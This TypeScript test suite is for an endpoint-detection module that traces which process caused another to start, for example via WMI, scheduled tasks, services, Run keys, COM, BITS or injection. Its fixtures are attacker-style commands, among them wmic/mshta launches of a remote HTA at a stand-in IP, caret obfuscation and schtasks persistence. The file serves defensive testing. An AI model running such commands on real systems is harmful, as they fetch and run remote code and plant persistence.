import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { EndpointEvent, EntityId } from '../events/endpointEvent';
import { scenario } from '../events/scenario';
import type { Scenario, ScenarioOptions, StoryProcess } from '../events/story';
import { buildLineage } from './buildLineage';
import { findHandovers } from './handovers';
import type { Handover, Lineage } from './lineage';

const SYSTEM32 = 'C:\\Windows\\System32\\';
const WMIPRVSE = `${SYSTEM32}wbem\\WmiPrvSE.exe`;
const WMIC = `${SYSTEM32}wbem\\WMIC.exe`;
const MSHTA = `${SYSTEM32}mshta.exe`;
const CMD = `${SYSTEM32}cmd.exe`;
const SVCHOST = `${SYSTEM32}svchost.exe`;
const SCHTASKS = `${SYSTEM32}schtasks.exe`;
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
const RUN = 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater';
const URL = 'http://203.0.113.9/a.hta';
const SHELL_WINDOWS = '\\REGISTRY\\MACHINE\\CLASSES\\CLSID\\{9BA05972-F6A8-11CF-A442-00A0C90A8F39}';

describe('a start over WMI', () => {
  it.each([
    ['wmic', WMIC, `wmic process call create "mshta.exe ${URL}"`],
    [
      'wmic with escaped quotes',
      WMIC,
      `wmic process call create "\\"C:\\Windows\\System32\\mshta.exe\\" ${URL}"`,
    ],
    ['carets', CMD, `cmd /c wm^ic pro^cess call create "mshta ${URL}"`],
    [
      'PowerShell',
      POWERSHELL,
      `powershell Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'mshta ${URL}'`,
    ],
    [
      'parts that stand apart',
      POWERSHELL,
      `powershell $p='mshta.exe'; $a='${URL}'; ([wmiclass]'Win32_Process').Create("$p $a")`,
    ],
  ])(
    'was asked for by the process whose command line holds the command (%s)',
    (_name, image, commandLine) => {
      const { s, service } = withWmi();
      const asker = s.starts(image, { commandLine });
      s.after('2s');
      const started = startMshta(s, service);
      const lineage = buildLineage(s.events());
      expect(lineage.processes.get(started.entityId)).toMatchObject({
        link: { parentId: service.entityId, strength: 'broken' },
        requestedBy: { kind: 'wmi', from: asker.entityId, at: started.startedAt, strength: 'inferred' },
      });
      expect(lineage.handovers.get(asker.entityId)?.map(({ to }) => to)).toEqual([started.entityId]);
    },
  );

  it('says who asked whom for what, and how that is known', () => {
    const { s, service } = withWmi();
    s.starts(WMIC, { commandLine: `wmic process call create "mshta ${URL}"` });
    const started = startMshta(s, service);
    expect(requestOf(s, started)?.reason).toBe(
      'WMIC.exe asked WMI to start mshta.exe: its command line names the command',
    );
  });

  it('was asked for by the process whose script holds the command', () => {
    const { s, service } = withWmi();
    const asker = s.starts(POWERSHELL, { commandLine: 'powershell -enc AAAA' });
    s.runsScript(
      asker,
      `Invoke-CimMethod Win32_Process -MethodName Create -Arguments @{CommandLine='mshta.exe ${URL}'}`,
    );
    const started = startMshta(s, service);
    expect(requestOf(s, started)?.from).toBe(asker.entityId);
  });

  it('is only weakly known from a text that holds the command and does not speak of WMI', () => {
    const { s, service } = withWmi();
    const asker = s.starts(CMD, { commandLine: `cmd /c helper.exe mshta.exe ${URL}` });
    const started = startMshta(s, service);
    expect(requestOf(s, started)).toMatchObject({ from: asker.entityId, strength: 'weak' });
  });

  it.each([
    ['another user asked', { user: 'CORP\\a.lee' }, '2s', `wmic process call create "mshta ${URL}"`],
    ['it was asked for longer ago', {}, '2m', `wmic process call create "mshta ${URL}"`],
    ['another command was asked for', {}, '2s', 'wmic process call create "mshta http://198.51.100.7/b.hta"'],
    ['the text only names the program', {}, '2s', 'cmd /c where mshta.exe'],
    ['nobody names it', {}, '2s', 'cmd /c whoami'],
  ])('stays broken where %s', (_name, options, wait, commandLine) => {
    const { s, service } = withWmi();
    s.starts(WMIC, { ...options, commandLine });
    s.after(wait);
    expect(requestOf(s, startMshta(s, service))).toBeUndefined();
  });

  it('was not asked for by an earlier start of the same command', () => {
    const { s, service } = withWmi();
    startMshta(s, service);
    s.after('5s');
    expect(requestOf(s, startMshta(s, service))).toBeUndefined();
  });

  it('belongs to the nearest of several that asked', () => {
    const { s, service } = withWmi();
    const commandLine = `wmic process call create "mshta ${URL}"`;
    s.starts(WMIC, { commandLine });
    s.after('5s');
    const second = s.starts(WMIC, { commandLine });
    s.after('5s');
    expect(requestOf(s, startMshta(s, service))?.from).toBe(second.entityId);
  });

  it('belongs to the one whose text has the whole command, though another is nearer', () => {
    const { s, service } = withWmi();
    const whole = s.starts(WMIC, { commandLine: `wmic process call create "mshta.exe ${URL}"` });
    s.starts(POWERSHELL, { commandLine: `powershell "wmic $x = '${URL}'; mshta | other"` });
    expect(requestOf(s, startMshta(s, service))?.from).toBe(whole.entityId);
  });
});

describe('a start by the task scheduler', () => {
  const commandLine = `"${SCHTASKS}" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe ${URL}" /F`;

  it('was asked for by who registered the task on a command line, days before', () => {
    const { s, scheduler } = withScheduler();
    const asker = s.starts(SCHTASKS, { commandLine });
    s.after('3d');
    const request = requestOf(s, startMshta(s, scheduler));
    expect(request).toMatchObject({ kind: 'task', from: asker.entityId, strength: 'inferred' });
    expect(request?.reason).toContain('3 d');
  });

  it('is broken after eight days', () => {
    const { s, scheduler } = withScheduler();
    s.starts(SCHTASKS, { commandLine });
    s.after('8d');
    expect(requestOf(s, startMshta(s, scheduler))).toBeUndefined();
  });

  it('was asked for by the process that the task\u2019s record names', () => {
    const { s, scheduler } = withScheduler();
    const asker = s.starts(POWERSHELL, { commandLine: 'powershell -enc AAAA' });
    s.tells('task_create', asker, {
      'task.name': '\\Updater',
      'task.command': `%windir%\\system32\\mshta.exe ${URL}`,
    });
    s.after('1h');
    const request = requestOf(s, startMshta(s, scheduler));
    expect(request?.from).toBe(asker.entityId);
    expect(request?.reason).toContain('registered the task \\Updater');
  });

  it('was asked for by who named the task just before a record that names no process', () => {
    const { s, scheduler } = withScheduler();
    const asker = s.starts(SCHTASKS, { commandLine: 'schtasks /create /tn "My Updater" /xml C:\\a.xml' });
    s.tells('task_create', undefined, { 'task.name': '\\My Updater', 'task.command': `mshta ${URL}` });
    s.after('1h');
    expect(requestOf(s, startMshta(s, scheduler))?.from).toBe(asker.entityId);
  });

  it('was asked for by who wrote the task\u2019s file himself, but not by the scheduler, which writes every one', () => {
    for (const byScheduler of [false, true]) {
      const { s, scheduler } = withScheduler();
      const writer = byScheduler ? scheduler : s.starts(CMD);
      s.writes(writer, 'C:\\Windows\\System32\\Tasks\\Updater');
      s.tells('task_create', undefined, { 'task.name': '\\Updater', 'task.command': `mshta ${URL}` });
      expect(requestOf(s, startMshta(s, scheduler))?.from).toBe(byScheduler ? undefined : writer.entityId);
    }
  });

  it('of another person was asked for by another', () => {
    const { s, scheduler } = withScheduler();
    s.starts(SCHTASKS, { commandLine, user: 'CORP\\a.lee' });
    expect(requestOf(s, startMshta(s, scheduler))).toBeUndefined();
  });

  it('as the system may have been asked for by a person', () => {
    const { s, scheduler } = withScheduler();
    const asker = s.starts(SCHTASKS, { commandLine });
    const started = s.starts(MSHTA, {
      parent: scheduler,
      commandLine: `mshta.exe ${URL}`,
      user: 'NT AUTHORITY\\SYSTEM',
    });
    expect(requestOf(s, started)?.from).toBe(asker.entityId);
  });
});

describe('a start by the service manager', () => {
  it('was asked for by who installed the service, by a command line or by a record', () => {
    for (const how of ['sc', 'record'] as const) {
      const s = scenario();
      const asker = s.starts(CMD, {
        commandLine: how === 'sc' ? 'sc create upd binPath= "C:\\ProgramData\\u.exe -s now"' : 'cmd /c x',
      });
      if (how === 'record')
        s.tells('service_install', asker, {
          'service.name': 'upd',
          'service.command': 'C:\\ProgramData\\u.exe -s now',
        });
      s.after('2h');
      const started = s.starts('C:\\ProgramData\\u.exe', {
        parent: s.services,
        commandLine: '"C:\\ProgramData\\u.exe" -s now',
        user: 'NT AUTHORITY\\SYSTEM',
      });
      expect(requestOf(s, started)).toMatchObject({ kind: 'service', from: asker.entityId });
    }
  });
});

describe('a start at logon', () => {
  it('was asked for by who wrote the same command to a Run key', () => {
    const s = scenario();
    const writer = s.starts(POWERSHELL);
    s.sets(writer, RUN, `"${MSHTA}" ${URL}`);
    s.after('20h');
    const started = s.starts(MSHTA, { commandLine: `"${MSHTA}" ${URL}` });
    expect(requestOf(s, started)).toMatchObject({ kind: 'run_key', from: writer.entityId });
  });

  it.each([
    ['the key holds another command', RUN, `"${MSHTA}" http://198.51.100.7/b.hta`, '1h'],
    [
      'the key is none that starts anything',
      'HKU\\S-1-5-21-1\\Software\\App\\Run',
      `"${MSHTA}" ${URL}`,
      '1h',
    ],
    ['it was written eight days ago', RUN, `"${MSHTA}" ${URL}`, '8d'],
  ])('was not where %s', (_name, key, data, wait) => {
    const s = scenario();
    s.sets(s.starts(POWERSHELL), key, data);
    s.after(wait);
    expect(requestOf(s, s.starts(MSHTA, { commandLine: `"${MSHTA}" ${URL}` }))).toBeUndefined();
  });
});

describe('a start by Explorer', () => {
  it('was asked for by who touched the shell\u2019s COM class as the same user within five seconds', () => {
    for (const [user, wait, expected] of [
      ['CORP\\j.doe', '500ms', true],
      ['CORP\\j.doe', '6s', false],
      ['CORP\\a.lee', '500ms', false],
      ['NT AUTHORITY\\SYSTEM', '500ms', false],
    ] as const) {
      const s = scenario();
      const word = s.starts('C:\\Program Files\\Office\\WINWORD.EXE', { user });
      s.opensKey(word, SHELL_WINDOWS);
      s.after(wait);
      const started = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
      expect([user, wait, requestOf(s, started)?.from]).toEqual([
        user,
        wait,
        expected ? word.entityId : undefined,
      ]);
    }
  });
});

describe('a start over COM', () => {
  it('was asked for by a script that names the class of the program', () => {
    const s = scenario();
    const com = s.starts(SVCHOST, { parent: s.services, commandLine: 'svchost.exe -k DcomLaunch -p' });
    const asker = s.starts(POWERSHELL);
    s.runsScript(asker, '[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application"))');
    const mmc = s.starts(`${SYSTEM32}mmc.exe`, {
      parent: com,
      commandLine: 'C:\\Windows\\system32\\mmc.exe -Embedding',
    });
    expect(requestOf(s, mmc)).toMatchObject({ kind: 'com', from: asker.entityId });
  });

  it('stays broken where nobody names it', () => {
    const s = scenario();
    const com = s.starts(SVCHOST, { parent: s.services, commandLine: 'svchost.exe -k DcomLaunch -p' });
    s.runsScript(s.starts(POWERSHELL), 'Get-Process');
    const started = s.starts(MSHTA, { parent: com, commandLine: `${MSHTA} -Embedding` });
    expect(requestOf(s, started)).toBeUndefined();
  });
});

describe('a handover to a process that runs already', () => {
  it('is a remote thread, from the first on; one in a child of one\u2019s own is none', () => {
    const s = scenario();
    const [target, child] = [s.starts(`${SYSTEM32}notepad.exe`), s.starts(CMD)];
    s.after('1m');
    inject(s, child, target);
    inject(s, child, target);
    const own = s.starts(MSHTA, { parent: child });
    inject(s, child, own);
    const handovers = buildLineage(s.events()).handovers.get(child.entityId) ?? [];
    expect(handovers.map(({ kind, to, reason }) => [kind, to, reason])).toEqual([
      ['remote_thread', target.entityId, 'cmd.exe handed over to notepad.exe by remote thread'],
    ]);
    expect(handovers[0]?.at).toBe(s.events().find(({ kind }) => kind === 'remote_thread')?.time);
  });

  it('finds a target that is known by its pid only', () => {
    const s = scenario();
    const target = s.starts(`${SYSTEM32}notepad.exe`);
    const source = s.starts(CMD);
    s.tells('remote_thread', source, { 'Target.process.pid': target.pid });
    expect(handoversOf(s).map(({ to }) => to)).toEqual([target.entityId]);
  });

  it('is the installer service, where it worked on the client\u2019s package', () => {
    for (const host of ['cdn.offer.example', 'other.example']) {
      const s = scenario();
      const service = s.starts(`${SYSTEM32}msiexec.exe`, {
        parent: s.services,
        commandLine: `${SYSTEM32}msiexec.exe /V`,
      });
      s.after('1h');
      const client = s.starts(`${SYSTEM32}msiexec.exe`, {
        commandLine: 'msiexec /q /i https://cdn.offer.example/x.msi',
      });
      s.resolves(service, host);
      const expected = host === 'cdn.offer.example' ? [[client.entityId, service.entityId, 'inferred']] : [];
      expect(handoversOf(s).map(({ from, to, strength }) => [from, to, strength])).toEqual(expected);
    }
  });

  it('is the installer service, weakly, where it was started for the only client', () => {
    for (const clients of [1, 2]) {
      const s = scenario();
      for (let i = 0; i < clients; i++)
        s.starts(`${SYSTEM32}msiexec.exe`, { commandLine: `msiexec /i C:\\Temp\\${i}.msi /qn` });
      s.after('1s');
      s.starts(`${SYSTEM32}msiexec.exe`, { parent: s.services, commandLine: `${SYSTEM32}msiexec.exe /V` });
      expect(handoversOf(s).map(({ strength }) => strength)).toEqual(clients === 1 ? ['weak'] : []);
    }
  });

  it('is a transfer of BITS: the transfer and its connections, and nothing else that the service does', () => {
    const s = scenario();
    const bits = s.starts(SVCHOST, { parent: s.services, commandLine: 'svchost.exe -k netsvcs -p -s BITS' });
    const asker = s.starts(`${SYSTEM32}bitsadmin.exe`, {
      commandLine: 'bitsadmin /transfer x https://cdn.offer.example/a.zip C:\\Temp\\a.zip',
    });
    s.connects(bits, '203.0.113.9', 443, { domain: 'cdn.offer.example' });
    s.connects(bits, '198.51.100.7', 443, { domain: 'update.example' });
    s.tells('bits_transfer', undefined, { 'url.full': 'https://cdn.offer.example/a.zip' });
    const lineage = buildLineage(s.events());
    const [handover] = lineage.handovers.get(asker.entityId) ?? [];
    const acts = s.events().filter(({ id }) => handover?.acts?.includes(id));
    expect(handover).toMatchObject({ kind: 'bits', to: bits.entityId });
    expect(acts.map(({ kind }) => kind).sort()).toEqual(['bits_transfer', 'network_connect']);
    expect(acts.map((event) => lineage.processOf(event))).toEqual([bits.entityId, bits.entityId]);
  });
});

describe('a forged parent', () => {
  it('gives way to the real creator, by id exactly, by pid inferred, and is kept beside it', () => {
    for (const [extra, strength] of [
      [(p: StoryProcess) => ({ 'process.parent.Ext.real.entity_id': p.entityId }), 'exact'],
      [(p: StoryProcess) => ({ 'process.parent.Ext.real.pid': p.pid }), 'inferred'],
    ] as const) {
      const s = scenario();
      const [creator, claimed] = [s.starts(CMD), s.starts(`${SYSTEM32}notepad.exe`)];
      const started = s.starts(MSHTA, { parent: claimed });
      const events = s
        .events()
        .map((event) =>
          event['process.entity_id'] === started.entityId ? { ...event, ...extra(creator) } : event,
        );
      const { link } = buildLineage(events).processes.get(started.entityId) ?? {};
      expect(link).toMatchObject({
        parentId: creator.entityId,
        recordedParentId: claimed.entityId,
        strength,
      });
      expect(link?.reason).toContain('recorded parent notepad.exe was not the creator');
    }
  });

  it('is none where a service of Windows created the process in its client\u2019s name', () => {
    const s = scenario();
    const appinfo = s.starts(SVCHOST, {
      parent: s.services,
      commandLine: 'svchost.exe -k netsvcs -p -s Appinfo',
    });
    const client = s.starts(CMD);
    const started = s.starts(MSHTA, { parent: client });
    const events = s
      .events()
      .map((event) =>
        event['process.entity_id'] === started.entityId
          ? { ...event, 'process.parent.Ext.real.entity_id': appinfo.entityId }
          : event,
      );
    const { link } = buildLineage(events).processes.get(started.entityId) ?? {};
    expect(link).toEqual({
      parentId: client.entityId,
      strength: 'inferred',
      reason: 'created by svchost.exe in the name of cmd.exe',
    });
  });
});

describe('handovers', () => {
  it('do not depend on the order of events', () => {
    const events = everyKind();
    const expected = flat(buildLineage(events));
    expect(new Set(expected.map(({ kind }) => kind)).size).toBeGreaterThan(4);
    fc.assert(
      fc.property(fc.shuffledSubarray([...events], { minLength: events.length }), (shuffled) => {
        expect(flat(buildLineage(shuffled))).toEqual(expected);
      }),
      { numRuns: 20 },
    );
  });

  it('never lead from a start back to itself', () => {
    const step = fc.record({ image: fc.nat(2), of: fc.nat(9), text: fc.nat(2), gap: fc.nat(2) });
    fc.assert(
      fc.property(fc.array(step, { maxLength: 12 }), (steps) => {
        const { s, service } = withWmi();
        const commands = [
          'mshta http://a.example/x',
          'cmd /c wmic mshta http://a.example/x',
          'wmic cmd /c wmic mshta http://a.example/x',
        ];
        const told: StoryProcess[] = [service];
        for (const { image, of, text, gap } of steps) {
          s.after(`${gap}ms`);
          const parent = told[of % told.length] ?? service;
          told.push(
            s.starts([MSHTA, CMD, WMIC][image] ?? CMD, { parent, commandLine: commands[text] ?? '' }),
          );
        }
        const { processes } = buildLineage(s.events());
        for (const start of processes.keys()) {
          const seen = new Set<EntityId>();
          for (
            let at: EntityId | undefined = start;
            at !== undefined;
            at = processes.get(at)?.requestedBy?.from
          ) {
            expect(seen.has(at)).toBe(false);
            seen.add(at);
          }
        }
      }),
      { numRuns: 60 },
    );
  });

  it.each(['alike', 'different'] as const)(
    'cost a fixed number of looks for each start, however many ask (%s)',
    (how) => {
      const looks = [500, 1000].map((count) => weighed(crowd(count, how)));
      expect(looks[0]).toBeGreaterThan(0);
      expect((looks[1] ?? 0) / (looks[0] ?? 1)).toBeLessThan(2.5);
      expect(looks[1]).toBeLessThan(1000 * 120);
    },
  );
});

function withWmi(options: ScenarioOptions = {}): { s: Scenario; service: StoryProcess } {
  const s = scenario(options);
  const service = s.starts(WMIPRVSE, { parent: s.svchost, user: 'NT AUTHORITY\\NETWORK SERVICE' });
  s.after('1m');
  return { s, service };
}

function withScheduler(): { s: Scenario; scheduler: StoryProcess } {
  const s = scenario();
  const commandLine = 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule';
  const scheduler = s.starts(SVCHOST, { parent: s.services, commandLine, user: 'NT AUTHORITY\\SYSTEM' });
  s.after('1m');
  return { s, scheduler };
}

function startMshta(s: Scenario, parent: StoryProcess): StoryProcess {
  return s.starts(MSHTA, { parent, commandLine: `mshta.exe ${URL}` });
}

function inject(s: Scenario, source: StoryProcess, target: StoryProcess): void {
  s.tells('remote_thread', source, {
    'Target.process.entity_id': target.entityId,
    'Target.process.pid': target.pid,
    'Target.process.executable': target.executable,
  });
}

function requestOf(s: Scenario, started: StoryProcess): Handover | undefined {
  return buildLineage(s.events()).processes.get(started.entityId)?.requestedBy;
}

function handoversOf(s: Scenario): readonly Handover[] {
  return flat(buildLineage(s.events()));
}

function flat({ handovers }: Lineage): readonly Handover[] {
  return [...handovers.values()].flat().sort((a, b) => a.at - b.at || (a.event < b.event ? -1 : 1));
}

function everyKind(): readonly EndpointEvent[] {
  const { s, service } = withWmi();
  s.starts(WMIC, { commandLine: `wmic process call create "mshta.exe ${URL}"` });
  startMshta(s, service);
  const scheduler = s.starts(SVCHOST, {
    parent: s.services,
    commandLine: 'svchost.exe -k netsvcs -s Schedule',
  });
  s.starts(SCHTASKS, { commandLine: `schtasks /create /tn a /tr "mshta.exe ${URL}"` });
  startMshta(s, scheduler);
  const word = s.starts('C:\\Program Files\\Office\\WINWORD.EXE');
  s.opensKey(word, SHELL_WINDOWS);
  const target = startMshta(s, s.explorer);
  inject(s, word, target);
  s.sets(word, RUN, 'C:\\u.exe -s now');
  s.after('10s');
  s.starts('C:\\u.exe', { commandLine: 'C:\\u.exe -s now' });
  s.starts(CMD, { commandLine: 'sc create upd binPath= "C:\\v.exe -s now"' });
  s.starts('C:\\v.exe', { parent: s.services, commandLine: 'C:\\v.exe -s now' });
  return s.events();
}

/** As many that ask as are started, at once, all with one program. */
function crowd(count: number, how: 'alike' | 'different'): readonly EndpointEvent[] {
  const { s, service } = withWmi();
  const argument = (i: number): string => (how === 'alike' ? URL : `${URL}?${i}`);
  for (let i = 0; i < count; i++)
    s.starts(WMIC, { commandLine: `wmic process call create "mshta ${argument(i)}"` });
  for (let i = 0; i < count; i++)
    s.starts(MSHTA, { parent: service, commandLine: `mshta ${argument(i + count)}` });
  return s.events();
}

function weighed(events: readonly EndpointEvent[]): number {
  const { processes, processOf } = buildLineage(events);
  let looks = 0;
  findHandovers({ events, processes, processOf, targetOf: () => undefined, onWeighed: () => looks++ });
  return looks;
}
